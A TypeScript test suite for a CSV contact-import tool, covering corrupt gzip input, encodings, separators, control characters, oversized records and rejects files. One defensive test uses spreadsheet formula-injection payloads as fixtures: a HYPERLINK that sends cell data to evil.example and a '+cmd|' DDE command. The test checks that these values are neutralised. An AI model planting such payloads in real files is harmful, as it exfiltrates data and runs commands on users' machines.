import { readFileSync, statSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DatabaseHandle } from '../../src/db/engine.ts';
import { ImportFileError, parseEncoding } from '../../src/imports/csv-source.ts';
import { importOppositionList } from '../../src/opposition/opposition.import.ts';
import { createTestDatabase } from '../helpers/database.ts';
import { csv, tempFolder } from '../helpers/files.ts';
import { captureLogger } from '../helpers/silent-logger.ts';
import { CONTACTS_CSV, importFile, PRODUCTS_CSV, tableCounts } from './import.fixtures.ts';

let database: DatabaseHandle;
const files = tempFolder();

beforeAll(async () => {
  database = await createTestDatabase();
  await importFile(database, 'products', files.write('products.csv', csv(...PRODUCTS_CSV)));
  await importFile(database, 'contacts', files.write('contacts.csv', csv(...CONTACTS_CSV)));
});
afterAll(() => database.close());

/** Enough contacts that the gzip stream is read in many chunks before it breaks. */
function manyContacts(count: number): string {
  const lines = ['external_id,email,created_at'];
  for (let index = 0; index < count; index += 1) lines.push(`GZ${index},person.${index * 7919}@example.com,2024-01-02`);
  return csv(...lines);
}

/** A file that must fail whole: the promise rejects (no hang), nothing changed, and the database answers afterwards. */
async function expectFileRefused(file: string, message: RegExp): Promise<void> {
  const before = await tableCounts(database);
  const failure = await importFile(database, 'contacts', file).then(
    () => new Error('the import succeeded'),
    (error: unknown) => error,
  );
  expect(failure).toBeInstanceOf(ImportFileError);
  expect((failure as Error).message).toMatch(message);
  // a transaction left open (in COPY) would keep these counts from answering
  expect(await tableCounts(database)).toEqual(before);
}

describe('a truncated or corrupt .csv.gz ends the import with the line reached, nothing imported', () => {
  const gz = gzipSync(manyContacts(40_000));

  it('a truncated gzip file', { timeout: 20_000 }, async () => {
    const file = files.write('truncated.csv.gz', gz.subarray(0, Math.floor(gz.length / 2)));
    await expectFileRefused(file, /the gzip data is truncated or corrupt after line \d+ \(unexpected end of file\)/);
  });

  it('a corrupt gzip file', { timeout: 20_000 }, async () => {
    const corrupt = Buffer.from(gz);
    for (let index = Math.floor(gz.length / 3); index < Math.floor(gz.length / 3) + 64; index += 1) corrupt[index] = corrupt[index]! ^ 0x5a;
    const file = files.write('corrupt.csv.gz', corrupt);
    await expectFileRefused(file, /the gzip data is truncated or corrupt after line \d+ \(.+\)/);
  });

  it('an opposition list in a truncated gzip file', { timeout: 20_000 }, async () => {
    const lines = ['value'];
    for (let index = 0; index < 40_000; index += 1) lines.push(`person.${index * 7919}@example.com`);
    const list = gzipSync(csv(...lines));
    const file = files.write('opposition.csv.gz', list.subarray(0, Math.floor(list.length / 2)));
    const failure = await importOppositionList(
      { database, logger: captureLogger().logger, now: new Date('2026-06-01T12:00:00Z'), defaultPhoneCountry: 'FR' },
      { name: 'robinson', channel: 'email', file },
    ).then(
      () => new Error('the import succeeded'),
      (error: unknown) => error,
    );
    expect((failure as Error).message).toMatch(/the gzip data is truncated or corrupt after line \d+ \(unexpected end of file\)/);
    const { rows } = await database.pool.query('SELECT count(*)::int AS n FROM opposition_entries');
    expect(rows).toEqual([{ n: 0 }]);
  });

  it('the whole file still imports afterwards', async () => {
    const report = await importFile(database, 'contacts', files.write('whole.csv.gz', gz));
    expect(report).toMatchObject({ status: 'committed', inserted: 40_000 });
  });
});

describe('text that is not what it claims: encodings, separators, control characters, huge records', () => {
  const latin1 = Buffer.concat([
    Buffer.from('external_id,first_name,last_name,created_at\nL1,Anne,Durand,2024-01-02\nL2,'),
    Buffer.from('H\xe9l\xe8ne', 'latin1'),
    Buffer.from(',Lef\xe8vre,2024-01-03\n', 'latin1'),
  ]);

  it('invalid UTF-8 is refused with its line, never imported as H\uFFFDl\uFFFDne', async () => {
    await expectFileRefused(
      files.write('latin1.csv', latin1),
      /^line 3: the file is not valid UTF-8 \(an invalid byte at character 5\); if it was saved as Latin-1 or Windows-1252, import it with --encoding latin1$/,
    );
  });

  it('a UTF-8 character split across read chunks stays whole', async () => {
    const lines = ['external_id,first_name,created_at'];
    for (let index = 0; index < 30_000; index += 1) lines.push(`U${index},Hélène Ærø ✓,2024-01-02`);
    const report = await importFile(database, 'contacts', files.write('utf8.csv', csv(...lines)));
    expect(report).toMatchObject({ status: 'committed', inserted: 30_000 });
    const { rows } = await database.pool.query(
      `SELECT DISTINCT p.first_name FROM contacts c JOIN contact_personal_data p ON p.contact_id = c.id WHERE c.external_id LIKE 'U%'`,
    );
    expect(rows).toEqual([{ first_name: 'Hélène Ærø ✓' }]);
  });

  it('--encoding latin1 reads the same file correctly (Windows-1252, a superset of Latin-1)', async () => {
    const report = await importFile(database, 'contacts', files.write('latin1-ok.csv', latin1), { encoding: 'windows-1252' });
    expect(report).toMatchObject({ status: 'committed', inserted: 2 });
    const { rows } = await database.pool.query(
      `SELECT p.first_name, p.last_name FROM contacts c JOIN contact_personal_data p ON p.contact_id = c.id WHERE c.external_id = 'L2'`,
    );
    expect(rows).toEqual([{ first_name: 'Hélène', last_name: 'Lefèvre' }]);
  });

  it('encoding names: latin1 and its aliases read as Windows-1252; an unknown name is refused with the names understood', () => {
    expect(['latin1', 'ISO-8859-1', 'windows-1252', 'cp1252'].map(parseEncoding)).toEqual(Array(4).fill('windows-1252'));
    expect(['utf-8', 'UTF8'].map(parseEncoding)).toEqual(['utf-8', 'utf-8']);
    expect(() => parseEncoding('ebcdic')).toThrow('unknown encoding "ebcdic": use utf-8 (the default), latin1 or windows-1252');
  });

  it('a ;-separated file is refused by its header, not guessed', async () => {
    await expectFileRefused(
      files.write('semicolons.csv', csv('external_id;email;created_at', 'S1;s1@example.com;2024-01-02')),
      /^line 1: the header is one column, "external_id;email;created_at": the file seems separated by ";"; cible reads comma-separated files/,
    );
  });

  it('control characters in ids are refused with their line (a tab or a line break too); in other fields, all but tab and line breaks', async () => {
    const before = await tableCounts(database);
    const report = await importFile(
      database,
      'contacts',
      files.write(
        'controls.csv',
        csv(
          'external_id,first_name,created_at',
          'K1,Anne,2024-01-02',
          'K\u00012,Anne,2024-01-02',
          '"K\t3",Anne,2024-01-02',
          'K4,"An\u001bne",2024-01-02',
          'K5,"Anne\tMarie",2024-01-02',
        ),
      ),
    );
    expect(report.status).toBe('rejected');
    expect(report.rejects).toEqual([
      { line: 3, field: 'external_id', message: 'holds a control character (U+0001)' },
      { line: 4, field: 'external_id', message: 'holds a control character (U+0009)' },
      { line: 5, field: 'first_name', message: 'holds a control character (U+001B)' },
    ]);
    expect(await tableCounts(database)).toEqual(before);
  });

  it('a 20 MB field is refused at the record that holds it, before the parser buffers it', async () => {
    const huge = `external_id,first_name,created_at\nH1,Anne,2024-01-02\nH2,"${'x'.repeat(20 * 1024 * 1024)}",2024-01-02\n`;
    await expectFileRefused(
      files.write('huge-field.csv', huge),
      /^line 3: the record is longer than 1,048,576 bytes \(an unclosed quote, or a field far too long\)$/,
    );
  });

  it('a quoted field may hold commas, quotes and line breaks well within the limit', async () => {
    const text = 'a, "b"\nc'.repeat(1000);
    const report = await importFile(
      database,
      'products',
      files.write('quoted.csv', csv('sku,name,category', `Q1,"${text.slice(0, 400).replace(/"/g, '""')}",garden`, 'Q2,Plain,garden')),
    );
    expect(report).toMatchObject({ status: 'committed', inserted: 2 });
  });
});

describe('rejects files', () => {
  it('are readable by their owner only (0600) and carry no live spreadsheet formula', async () => {
    const rejectsFile = `${files.dir}/formulas.rejects.csv`;
    const report = await importFile(
      database,
      'contacts',
      files.write(
        'formulas.csv',
        csv(
          'external_id,email,created_at',
          'F1,f1@example.com,2024-01-02',
          '"=HYPERLINK(""http://evil.example/?x=""&A1)",not-an-email,2024-01-02',
          'F3,@SUM(1+1),2024-01-02',
          "F4,+cmd|' /C calc'!A0,2024-01-02",
          '-5,-2+3,2024-01-02',
        ),
      ),
      { skipInvalid: true, rejectsFile },
    );
    expect(report).toMatchObject({ status: 'committed', rejected: 4 });
    expect(statSync(rejectsFile).mode & 0o777).toBe(0o600);
    const lines = readFileSync(rejectsFile, 'utf8').trim().split('\n');
    expect(lines.slice(1).map((line) => line.split(',').slice(0, 1).concat(line.split(',').slice(2, 4)))).toEqual([
      ['3', '"\'=HYPERLINK(""http://evil.example/?x=""&A1)"', 'not-an-email'],
      ['4', 'F3', "'@SUM(1+1)"],
      ['5', 'F4', "'+cmd|' /C calc'!A0"],
      ['6', '-5', "'-2+3"],
    ]);
  });
});
